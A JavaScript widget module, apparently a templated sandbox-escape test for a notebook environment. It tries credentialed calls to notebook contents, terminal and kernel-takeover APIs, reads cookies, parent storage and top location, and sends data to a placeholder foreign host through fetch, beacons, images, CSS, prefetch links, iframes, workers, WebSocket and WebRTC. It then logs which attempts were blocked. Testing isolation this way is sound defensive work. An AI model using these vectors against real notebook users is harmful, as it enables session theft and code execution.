const tries = {
  contents: () => fetch('{{origin}}/api/contents', { credentials: 'include' }),
  based: () => fetch('{{base}}api/contents', { credentials: 'include' }),
  opaque: () => fetch('{{base}}api/contents', { credentials: 'include', mode: 'no-cors' }),
  terminals: () => fetch('{{base}}api/terminals', { method: 'POST', credentials: 'include' }),
  chats: () => fetch('{{base}}postdoc/api/chats', { credentials: 'include' }),
  page: () => fetch('{{base}}postdoc/', { credentials: 'include' }),
  foreign: () => fetch('{{foreign}}/fetch?' + document.body.innerText.length),
  foreignPost: () => fetch('{{foreign}}/post', { method: 'POST', mode: 'no-cors', body: 'data' }),
  beacon: async () => {
    if (!navigator.sendBeacon('{{foreign}}/beacon', 'data')) throw new Error('refused');
    return 'queued';
  },
  token: async () => (await fetch('auth/token')).status,
  login: async () => (await fetch('auth/login')).status,
  host: async () => (await fetch('api/marimo/v1/notebooks')).status,
  run: async () => (await fetch('api/kernel/run', { method: 'POST', body: '{}' })).status,
  takeover: async () => (await fetch('api/kernel/takeover', { method: 'POST', body: '{}' })).status,
  save: async () => (await fetch('api/kernel/save', { method: 'POST', body: '{}' })).status,
  interrupt: async () => (await fetch('api/kernel/interrupt', { method: 'POST', body: '{}' })).status,
  health: async () => (await fetch('health')).status,
  parent: async () => parent.document.title,
  top: async () => top.location.href,
  frames: async () => parent.localStorage.length,
  origin: async () => self.origin,
  cookie: async () => document.cookie,
  window: async () => String(window.open('{{foreign}}/window')),
  escape: async () => {
    top.location = '{{foreign}}/top';
    return 'no error';
  },
  image: () =>
    new Promise((yes, no) => {
      const i = new Image();
      i.onload = yes;
      i.onerror = () => no(new Error('image'));
      i.src = '{{foreign}}/image';
    }),
  script: () => import('{{foreign}}/script.js'),
  css: async () => {
    const s = document.createElement('style');
    s.textContent = '@import url({{foreign}}/css); body { background: url({{foreign}}/background) }';
    document.head.append(s);
    return 'written';
  },
  prefetch: async () => {
    for (const rel of ['prefetch', 'preload', 'dns-prefetch', 'preconnect', 'modulepreload']) {
      const l = document.createElement('link');
      l.rel = rel;
      l.as = 'script';
      l.href = '{{foreign}}/' + rel;
      document.head.append(l);
    }
    return 'written';
  },
  nested: async () => {
    const f = document.createElement('iframe');
    f.src = '{{foreign}}/nested';
    document.body.append(f);
    return 'written';
  },
  popup: async () => {
    const f = document.createElement('iframe');
    document.body.append(f);
    return String(f.contentWindow.open('{{foreign}}/popup'));
  },
  inner: () =>
    new Promise(yes => {
      addEventListener('message', e => {
        if (typeof e.data === 'string' && e.data.startsWith('inner')) yes(e.data);
      });
      const f = document.createElement('iframe');
      f.srcdoc = `<script>fetch("{{foreign}}/inner").then(() => parent.postMessage("inner got through", "*"), e => parent.postMessage("inner " + e.name, "*"))<\/script>`;
      document.body.append(f);
    }),
  worker: () =>
    new Promise((yes, no) => {
      const w = new Worker(
        URL.createObjectURL(
          new Blob([`fetch("{{foreign}}/worker").then(() => postMessage("got through"), e => postMessage(e.name))`])
        )
      );
      w.onmessage = e => yes(e.data);
      w.onerror = () => no(new Error('worker'));
    }),
  socket: () =>
    new Promise((yes, no) => {
      const s = new WebSocket('{{ws}}');
      s.onopen = () => yes('open');
      s.onerror = () => no(new Error('socket'));
    }),
  rtc: async () => {
    const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{{stun}}' }] });
    c.createDataChannel('x');
    await c.setLocalDescription(await c.createOffer());
    await new Promise(y => setTimeout(y, 1500));
    return c.iceGatheringState;
  },
  meta: async () => {
    const m = document.createElement('meta');
    m.httpEquiv = 'refresh';
    m.content = '3600;url={{foreign}}/meta';
    document.head.append(m);
    return 'written';
  }
};
export default {
  async render({ el }) {
    const found = {};
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        const late = new Promise((_, no) => setTimeout(() => no(new Error('late')), 4000));
        const got = await Promise.race([attempt(), late]);
        found[name] = got instanceof Response ? `${got.type} ${got.status}` : got === undefined ? null : got;
      } catch (e) {
        found[name] = `refused: ${e.name}`;
      }
    }
    const shown = document.createElement('pre');
    shown.id = 'hostile';
    shown.textContent = JSON.stringify(found);
    document.body.append(shown);
    window.hostile = JSON.stringify(found);
  }
};
